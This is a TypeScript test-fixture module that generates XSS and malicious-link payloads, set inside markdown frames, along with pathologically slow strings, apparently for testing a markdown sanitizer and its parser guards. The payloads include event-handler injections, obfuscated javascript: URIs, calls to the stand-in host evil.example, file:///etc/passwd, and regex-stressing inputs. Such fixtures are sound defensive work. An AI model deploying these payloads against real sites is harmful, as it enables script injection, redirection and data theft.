/** Texts that try to become markup or to run, and texts that try to keep a parser busy. */

const ran = 'window.__ran=(window.__ran||0)+1';
/** What would run as HTML, each in its own way. */
const markup = [
  `<script>${ran}</script>`,
  `<img src=x onerror="${ran}">`,
  `<svg onload="${ran}"></svg>`,
  `<svg><animate onbegin="${ran}" attributeName=x dur=1s></animate></svg>`,
  `<details open ontoggle="${ran}"><summary>s</summary></details>`,
  `<iframe srcdoc="<script>parent.${ran.slice(7)}</script>"></iframe>`,
  `<input autofocus onfocus="${ran}">`,
  `<video><source onerror="${ran}"></video>`,
  `<style>@import 'https://evil.example/a.css';body{background:url(https://evil.example/b)}</style>`,
  `<link rel=stylesheet href="https://evil.example/c.css">`,
  `<base href="https://evil.example/"><a href="x">go</a>`,
  `<form action="https://evil.example/"><button>send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${ran}">`,
  `<object data="javascript:${ran}"></object>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${ran}"></style></mglyph></math>`,
  `<IMG """><SCRIPT>${ran}</SCRIPT>">`,
  `<p id="root" name="cookie" style="position:fixed;inset:0">over everything</p>`,
  `&lt;img src=x onerror=${ran}&gt;<!--><img src=x onerror=${ran}>-->`,
];
/** Addresses that no link may have. */
const addresses = [
  `javascript:${ran}`,
  `JaVaScRiPt:${ran}`,
  `java\tscript:${ran}`,
  `&#106;avascript:${ran}`,
  `javascript&colon;${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `vbscript:${ran}`,
  'http://plain.example/',
  '//evil.example/x',
  '/\\evil.example/x',
  'https://bank.example@evil.example/',
  'file:///etc/passwd',
];
const frames: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `> ${text}`,
  (text) => `- ${text}\n  1. ${text}`,
  (text) => `**${text}** and _${text}_`,
  (text) => `\`${text}\``,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `| a | b |\n| - | - |\n| ${text.replaceAll('|', '\\|')} | 1 |`,
  (text) => `# ${text}`,
  (text) => `words\n\n${text}\n\nwords`,
  (text) => `~~${text}~~ <div>`,
];
const linking: readonly ((address: string) => string)[] = [
  (address) => `[press](${address})`,
  (address) => `[press](<${address}>)`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[press][one]\n\n[one]: ${address}`,
  (address) => `[press](${address} "title\\" onmouseover=${ran} x=\\"")`,
  (address) => `[![inner](${address})](${address})`,
  (address) => `see ${address} for more`,
  (address) => `| a |\n| - |\n| [press](${address}) |`,
  (address) => `> 1. [**press**](${address})`,
];
const times = <A, B>(many: readonly A[], by: readonly B[], make: (a: A, b: B) => string): string[] =>
  many.flatMap((a) => by.map((b) => make(a, b)));

/** 300 texts. */
export const runningTexts: readonly string[] = [
  ...times(markup, frames, (text, frame) => frame(text)),
  ...times(addresses, linking, (address, link) => link(address)),
];

const fill = (piece: string, length = 9_900, line = 1_900): string =>
  Array.from({ length: Math.floor(length / line) }, () => piece.repeat(Math.floor(line / piece.length))).join('\n');
const pieces = [
  ...[
    '[',
    '![',
    '](',
    '*',
    '_',
    '*a_',
    '**a __b ',
    '`',
    '~',
    '~~a',
    '<',
    '&',
    '\\',
    '|',
    '> ',
    '- ',
    '1. ',
    '#',
    '<a ',
    '[a](b ',
    '[](<',
    '[a]: ',
    'a*b_c~',
    '(',
    '@a.',
    'www.',
    'a@',
    '[[a]',
    '`a``b',
    ':-',
  ],
];
/** 50 texts, each as large as is taken: those that guards do not stop take the parser some time. */
export const slowTexts: readonly string[] = [
  ...pieces.map((piece) => fill(piece)),
  ...pieces.slice(0, 16).map((piece) => fill(piece, 9_700, 49)),
  '>'.repeat(5_000),
  `${'|a'.repeat(3_000)}|\n${'|-'.repeat(3_000)}|`,
  `${'*a '.repeat(3_000)}${'b* '.repeat(300)}`,
  Array.from({ length: 100 }, (_, n) => `${'  '.repeat(n)}- a`).join('\n'),
];
